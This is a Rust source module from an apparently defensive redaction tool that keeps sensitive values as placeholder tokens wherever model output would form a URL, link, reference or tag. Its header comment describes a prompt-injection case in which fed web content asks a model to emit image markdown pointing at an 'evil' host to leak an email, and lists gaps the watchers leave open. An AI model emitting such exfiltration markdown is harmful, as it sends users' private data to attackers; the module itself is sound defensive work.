//! Where in a text for people a value must stay a token.
//!
//! A chat window fetches an image as soon as its markdown is complete. Text that a model was fed, a
//! web page say, may ask it for `![](http://evil/?q=EMAIL_…)`; were the token restored there,
//! showing the answer would send the value away. So four watchers read all that is emitted, one for
//! each way in which a text names an address: URLs, link targets, reference definitions, and tags.
//! Each one's veto is enough.
//!
//! The watchers know nothing of each other, on purpose. Markdown decides by precedence whether a
//! bracket is a link's or a tag's, renderers disagree about it, and an attacker would write what we
//! and they read differently. A watcher that takes every possible opening for a real one, and
//! leaves only where every reading has left, cannot be led past by another's opinion. The price is
//! a token that stays where a value would have done no harm.
//!
//! A watcher sees each byte once and keeps no text, so a split of the stream cannot change what it
//! says. Its state is a small value: an answer of many texts is read once for each way in which a
//! client may join them ([`crate::Joined`]).
//!
//! What this does not stop: an address that only what follows a value makes one (`EMAIL_…
//! .evil.example`), a list of strings that a program links across its quotes
//! (`"http://evil/","EMAIL_…"`), and one that a person puts together by hand. Nothing fetches those
//! by itself.

mod definition;
mod tag;
mod target;
mod url;

use definition::Definition;
use tag::Tag;
use target::LinkTarget;
use url::Url;

/// The state of all watchers behind some emitted text.
#[derive(Clone, Copy, Default, PartialEq)]
pub(crate) struct Watchers {
    url: Url,
    target: LinkTarget,
    definition: Definition,
    tag: Tag,
}

impl Watchers {
    /// Reads on over text that was emitted.
    pub(crate) fn read(&mut self, text: &str) {
        for byte in text.bytes() {
            self.url.step(byte);
            self.target.step(byte);
            self.definition.step(byte);
            self.tag.step(byte);
        }
    }

    /// Returns whether a value must not be emitted next.
    pub(crate) fn vetoes(&self) -> bool {
        self.url.vetoes() || self.target.vetoes() || self.definition.vetoes() || self.tag.vetoes()
    }
}

/// What ends a word. Fewer than Unicode knows: some renderers end an address at fewer, and none at
/// fewer than these.
fn is_space(byte: u8) -> bool {
    matches!(byte, b' ' | b'\t' | b'\n' | b'\r')
}

/// Notices a blank line, which ends every paragraph and with it whatever markdown left open.
#[derive(Clone, Copy, PartialEq)]
struct BlankLine {
    /// Nothing but spaces since the last newline.
    blank: bool,
}

impl Default for BlankLine {
    fn default() -> Self {
        Self { blank: true }
    }
}

impl BlankLine {
    /// Reads a byte; true at the newline that ends a blank line.
    fn step(&mut self, byte: u8) -> bool {
        let ended = byte == b'\n' && self.blank;
        self.blank = byte == b'\n' || (self.blank && is_space(byte));
        ended
    }
}
